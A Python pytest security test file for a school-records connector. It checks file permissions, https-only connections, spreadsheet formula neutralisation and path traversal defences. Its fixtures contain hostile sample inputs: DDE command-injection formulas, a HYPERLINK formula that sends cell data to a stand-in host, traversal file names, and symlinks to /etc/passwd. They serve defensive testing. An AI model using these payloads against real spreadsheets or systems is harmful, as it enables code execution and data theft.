"""Security at the edges: owner-only state whatever the umask, https only (loopback excepted),
spreadsheet formulas neutralised in what partners open, and no path traversal from partner file
names, symlinks, FIFOs or ids."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import responses
from pydantic import SecretStr
from reliability_kit import figures
from reliability_kit.world import World, config_text, make_world

from connector.client import PowerSchoolClient
from connector.feeds.safety import is_neutralised
from foundation.config import Credentials, parse_config_text
from foundation.errors import ConfigError, PowerSchoolError

# REFERRED_BY of the first referrals, as a malicious or careless staff member typed it
INJECTIONS = {
    0: "=cmd|' /C calc'!A0",
    1: "@SUM(1+1)*cmd|' /C calc'!A0",
    2: '+HYPERLINK("http://evil.example/?d="&A2,"open")',
    3: "-2+3+cmd|' /C calc'!A0",
    4: "\t=1+1",
    5: "\uff1d1+1",  # full-width equals sign
    6: "  =1+1",  # leading spaces are looked through
}
NAME_INJECTION = '=HYPERLINK("http://evil.example","x")'
SAFE_NAME = re.compile(r"^[A-Za-z0-9._-]+$")


@dataclass
class Secured:
    world: World
    outside: Path
    outside_bytes: bytes
    left: list[str]
    summary: dict[str, Any]


def _hostile_school_side(world: World) -> None:
    sb, side = world.sandbox, world.side
    assert side is not None
    by_uid = {r["SSP_UID"]: r for r in sb.rows("U_SSP_REFERRALS")}
    for n, text in INJECTIONS.items():
        sb.update_row("U_SSP_REFERRALS", by_uid[side.sent["cgc"][n]]["ID"], {"REFERRED_BY": text})
    sb.update_row(
        "U_SSP_REFERRALS", by_uid[side.sent["bhcare"][0]]["ID"], {"REFERRED_BY": INJECTIONS[0]}
    )
    dcid = side.student_of[side.sent["cgc"][0]]
    with sb.store.lock:
        sb.store.conn.execute(
            "UPDATE STUDENTS SET FIRST_NAME = ?, LAST_NAME = '@cmd', MOTHER = '+evil()', "
            "HOME_PHONE = '+1 (203) 555-0100' WHERE DCID = ?",
            (NAME_INJECTION, dcid),
        )
        sb.store.version += 1


def _hostile_inbox(world: World, outside: Path) -> list[str]:
    """Partner-controlled names: traversal-looking names, symlinks, a FIFO, a folder."""
    assert world.side is not None
    inbox, uid, day = world.inbox("cgc"), world.side.sent["cgc"][7], world.today.isoformat()
    good = (
        f"referral_id,status,status_date,first_service_date,status_reason\n{uid},received,{day},,\n"
    )
    (inbox / "status_updates_..\\..\\..\\evil.csv").write_text(good)
    (inbox / "status_updates_\u202egnp.csv").write_text(good.replace("received", "accepted"))
    (inbox / "visits_traversal.csv").write_text(
        "partner_visit_id,student_number,referral_id,visit_date,time_in,time_out,service_codes,purpose_code,"
        f"clinician_name\n../../../../etc/passwd,1,..\\..\\x,{day},10:00,10:30,,,\n"
    )
    (inbox / "status_updates_link.csv").symlink_to(outside)
    (inbox / "status_updates_passwd.csv").symlink_to("/etc/passwd")
    (inbox / "status_updates_dir.csv").mkdir()
    os.mkfifo(inbox / "status_updates_fifo.csv")
    return [
        "status_updates_link.csv",
        "status_updates_passwd.csv",
        "status_updates_dir.csv",
        "status_updates_fifo.csv",
    ]


@pytest.fixture(scope="module")
def secured(plugin_zips: list[Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Secured]:
    base = tmp_path_factory.mktemp("secure")
    world = make_world(base / "district", plugin_zips)
    outside = base / "outside.csv"
    outside.write_text("referral_id,status,status_date\nsecret-outside-row,received,2026-01-01\n")
    old = os.umask(0)  # the most permissive umask: modes must come from the code, not the umask
    try:
        _hostile_school_side(world)
        world.sync()
        world.partners_reply()
        left = _hostile_inbox(world, outside)
        done: list[dict[str, Any]] = []
        worker = threading.Thread(target=lambda: done.append(world.sync()), daemon=True)
        worker.start()
        worker.join(timeout=120)
        assert done, "the sync hung (a FIFO in the inbox?)"
        yield Secured(world, outside, outside.read_bytes(), left, done[0])
    finally:
        os.umask(old)
        world.sandbox.stop()


def test_state_database_quarantine_archive_and_locks_are_owner_only_whatever_the_umask(
    secured: Secured,
) -> None:
    state = secured.world.state_dir
    paths = [state, *state.rglob("*")]
    kinds = {
        p.relative_to(state).parts[2]
        for p in paths
        if len(p.relative_to(state).parts) > 2 and p.relative_to(state).parts[0] == "partners"
    }
    assert {"archive", "quarantine", "sent"} <= kinds and (state / "state.sqlite3").exists()
    wrong = [
        f"{oct(stat.S_IMODE(p.lstat().st_mode))} {p.relative_to(state)}"
        for p in paths
        if stat.S_IMODE(p.lstat().st_mode) != (0o700 if p.is_dir() else 0o600)
    ]
    assert wrong == []
    figures.add("state paths checked owner-only (umask 0)", len(paths))


def test_outbox_files_are_never_world_readable(secured: Secured) -> None:
    files = [p for pid in ("cgc", "bhcare") for p in secured.world.outbox(pid).iterdir()]
    assert len(files) >= 4
    assert [p.name for p in files if stat.S_IMODE(p.stat().st_mode) & 0o007] == []


def _cells(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_formula_injection_from_powerschool_is_neutralised_in_every_outbound_cell(
    secured: Secured,
) -> None:
    world = secured.world
    rows = {
        pid: [r for p in world.outbox(pid).glob("*_*.csv") for r in _cells(p)]
        for pid in ("cgc", "bhcare")
    }
    cells = [v for pid_rows in rows.values() for r in pid_rows for v in [*r.keys(), *r.values()]]
    assert len(cells) > 300 and [c for c in cells if not is_neutralised(c)] == []
    by_id = {
        r["referral_id"]: r for p in world.outbox("cgc").glob("referrals_*.csv") for r in _cells(p)
    }
    assert world.side is not None
    stored = {r["SSP_UID"]: r["REFERRED_BY"] for r in world.sandbox.rows("U_SSP_REFERRALS")}
    for n, text in INJECTIONS.items():
        uid = world.side.sent["cgc"][n]
        assert text.strip() in stored[uid]  # PowerSchool may trim the surrounding white space
        assert by_id[uid]["referred_by"] == "'" + stored[uid].strip()  # values are read trimmed
    first = by_id[world.side.sent["cgc"][0]]
    assert (first["first_name"], first["last_name"], first["guardian_name"]) == (
        "'" + NAME_INJECTION,
        "'@cmd",
        "'+evil()",
    )
    assert first["guardian_phone"] == "+1 (203) 555-0100"  # a phone number is data, kept as is
    figures.add("outbound cells checked for formulas", len(cells))


def test_partner_file_names_symlinks_fifos_and_folders_cannot_reach_outside_the_inbox(
    secured: Secured,
) -> None:
    world = secured.world
    assert secured.summary["status"] == "ok"
    inbox = world.inbox("cgc")
    assert sorted(p.name for p in inbox.iterdir() if not p.name.endswith(".part")) == sorted(
        secured.left
    )
    assert (
        secured.outside.read_bytes() == secured.outside_bytes and not secured.outside.is_symlink()
    )
    assert Path("/etc/passwd").exists()
    state = world.state_dir.resolve()
    for path in world.state_dir.rglob("*"):
        assert path.resolve().is_relative_to(state) and not path.is_symlink(), path
        assert SAFE_NAME.match(path.name), path.name
    archived = [p.name for p in world.state_dir.glob("partners/cgc/archive/*/*")]
    assert any("evil.csv" in n for n in archived) and any("gnp.csv" in n for n in archived)
    assert sorted(p.name for p in secured.outside.parent.iterdir()) == ["district", "outside.csv"]
    figures.add("hostile inbox names tried (traversal, symlinks, FIFO, folder)", 7)


def test_partner_ids_in_rows_never_become_paths(secured: Secured) -> None:
    """A visit id or referral id shaped like a path is a value (quarantined here), never a file."""
    state = secured.world.state_dir
    text = "".join(
        p.read_text("utf-8-sig") for p in state.glob("partners/cgc/quarantine/*/*visit*")
    )
    assert "../../../../etc/passwd" in text
    assert not any("passwd" in p.name for p in state.rglob("*"))


# -- https only -----------------------------------------------------------------------------------

CREDS = Credentials("client", SecretStr("secret-value-1234"))


@pytest.mark.parametrize(
    "url",
    [
        "http://ps.example.org",
        "http://10.1.2.3",
        "http://127.0.0.1.nip.io",
        "http://localhost.evil.example",
        "ftp://127.0.0.1",
        "https://user:pw@ps.example.org",
    ],
)
def test_the_client_refuses_plain_http_to_anything_but_loopback(url: str) -> None:
    with pytest.raises(ConfigError):
        PowerSchoolClient(url, CREDS)
    figures.add("insecure URLs refused")


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:9", "http://localhost:9", "http://[::1]:9", "https://ps.example.org"]
)
def test_the_client_accepts_https_and_loopback_http(url: str) -> None:
    PowerSchoolClient(url, CREDS).close()


def test_tls_verification_cannot_be_switched_off() -> None:
    import requests

    session = requests.Session()
    session.verify = False
    with pytest.raises(ConfigError):
        PowerSchoolClient("https://ps.example.org", CREDS, session=session)


@pytest.mark.parametrize("url", ["http://partner.example/api", "http://192.168.1.20/api"])
def test_a_partner_api_over_plain_http_is_refused_in_the_config(url: str, tmp_path: Path) -> None:
    text = config_text("http://127.0.0.1:9").replace(
        'feed = { kind = "csv", inbox = "feeds/cgc/in", outbox = "feeds/cgc/out" }',
        f'feed = {{ kind = "http", base_url = "{url}", token_env = "CGC_TOKEN" }}',
    )
    with pytest.raises(ConfigError) as info:
        parse_config_text(text, source="ssp.toml", base_dir=tmp_path)
    assert "base_url" in str(info.value) and "https" in str(info.value)


@responses.activate
def test_a_redirect_is_never_followed_so_the_token_never_leaves_for_another_host() -> None:
    responses.post(
        "https://ps.example.org/oauth/access_token",
        json={"access_token": "tok-abcdef", "expires_in": 3600},
    )
    responses.get(
        "https://ps.example.org/ws/schema/table/u_ssp_partners/count",
        status=302,
        headers={"Location": "http://evil.example/steal"},
    )
    with (
        PowerSchoolClient("https://ps.example.org", CREDS, max_delay=0.001) as ps,
        pytest.raises(PowerSchoolError),
    ):
        ps.table_count("U_SSP_PARTNERS")
    assert not any("evil.example" in c.request.url for c in responses.calls)
